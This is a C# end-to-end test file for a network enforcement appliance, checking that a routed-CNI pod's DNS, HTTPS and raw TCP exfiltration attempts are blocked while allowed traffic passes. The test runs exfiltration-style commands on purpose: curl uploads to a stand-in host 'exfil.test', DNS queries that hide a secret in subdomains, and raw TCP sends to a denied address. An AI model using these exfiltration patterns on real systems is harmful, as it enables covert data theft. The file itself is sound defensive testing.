using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// A pod connected the way routed CNIs (Calico, Cilium) connect one: a veth whose host side (<c>calihrlab0</c>) the
/// node routes, no bridge. Its DNS, HTTPS and raw TCP meet the same enforcement as a bridged container's
/// (<see cref="ContainerTrafficTests"/>).
/// </summary>
public sealed class RoutedPodTrafficTests
{
    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(20);
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(10);

    [SkippableFact]
    public async Task BlockMode_PodBehindRoutedVeth_DnsHttpsAndRawTcpExfiltrationHeld_AllowedTrafficPasses()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions { Container = true, ContainerRouted = true });
        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy, "--upstream-ca", lab.CaCertificatePath);

        // DNS: the pod asks the lab's resolver; the appliance answers, and a denied name never goes upstream
        var allowed = await Dig(lab, "@" + lab.DnsV4, "allowed.test", "A", "+short");
        Assert.Equal(lab.Allowed.V4.ToString(), allowed.StandardOutput.Trim());
        var secret = EnforcementCoreTests.Unique("pod") + ".exfil.test";
        Assert.Contains("status: NXDOMAIN", (await Dig(lab, "@" + lab.DnsV4, secret, "A")).StandardOutput, StringComparison.Ordinal);
        Assert.Contains("status: NXDOMAIN", (await Dig(lab, "+tcp", "@" + lab.DnsV6, "tcp." + secret, "TXT")).StandardOutput, StringComparison.Ordinal);

        // HTTPS: a denied host is refused; an allowed one passes through the proxy
        var exfil = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "5", "--resolve", $"exfil.test:443:{lab.Exfil.V4}", "https://exfil.test/pod-upload"], ClientTimeout);
        Assert.False(exfil.Succeeded, exfil.ToString());
        var ok = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "10", "--resolve", $"allowed.test:443:{lab.Allowed.V4}", "https://allowed.test/from-pod"], ClientTimeout);
        Assert.True(ok.Succeeded, ok.ToString());
        Assert.Equal("lab:allowed.test", ok.StandardOutput.Trim());

        // raw TCP: to a denied address dropped (v4 and v6); to the policy's CIDR passes, from the pod's own address
        var p4 = EnforcementCoreTests.Unique("pod4-");
        var p6 = EnforcementCoreTests.Unique("pod6-");
        var pOk = EnforcementCoreTests.Unique("podok-");
        Assert.False((await SendFromPod(lab, lab.Exfil.V4.ToString(), 9000, p4)).Succeeded);
        Assert.False((await SendFromPod(lab, lab.Exfil.V6.ToString(), 9000, p6)).Succeeded);
        var passed = await SendFromPod(lab, "198.51.100.31", 9000, pOk);
        Assert.True(passed.Succeeded, passed.ToString());
        Assert.Equal(LabAddresses.ContainerV4.ToString(), (await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(pOk, StringComparison.Ordinal), Wait)).RemoteAddress);

        // nothing denied reached the internet; the dropped flows are events naming the pod's interface
        Assert.True(await lab.DnsLog.NoneWithinAsync(r => r.Name.Contains(secret, StringComparison.OrdinalIgnoreCase), TimeSpan.FromSeconds(1)));
        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.Server == "exfil.test", TimeSpan.FromSeconds(1)));
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(p4, StringComparison.Ordinal) || r.Preview.Contains(p6, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
        // ... and name the pod's process (its socket is found in the pod's network namespace)
        foreach (var address in new[] { lab.Exfil.V4.ToString(), lab.Exfil.V6.ToString() })
        {
            var dropped = await appliance.WaitForEventAsync(e => IsForwardedDeny(e, address), Wait);
            Assert.Equal(JsonValueKind.Object, dropped.GetProperty("process").ValueKind);
            Assert.Contains("python3", dropped.GetProperty("process").GetProperty("exe").GetString(), StringComparison.Ordinal);
        }
    }

    private static Task<LabProcessResult> SendFromPod(TestLab lab, string address, int port, string payload) =>
        ContainerTrafficTests.SendFromContainer(lab, address, port, payload);

    private static Task<LabProcessResult> Dig(TestLab lab, params string[] args) => ContainerTrafficTests.DigFromContainer(lab, args);

    private static bool IsForwardedDeny(JsonElement e, string address) =>
        e.GetProperty("type").GetString() == "network" && e.GetProperty("address").GetString() == address && e.GetProperty("port").GetInt32() == 9000
        && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == "blocked"
        && (e.GetProperty("rule").GetString() ?? "").Contains(LabAddresses.RoutedInterface, StringComparison.Ordinal);
}
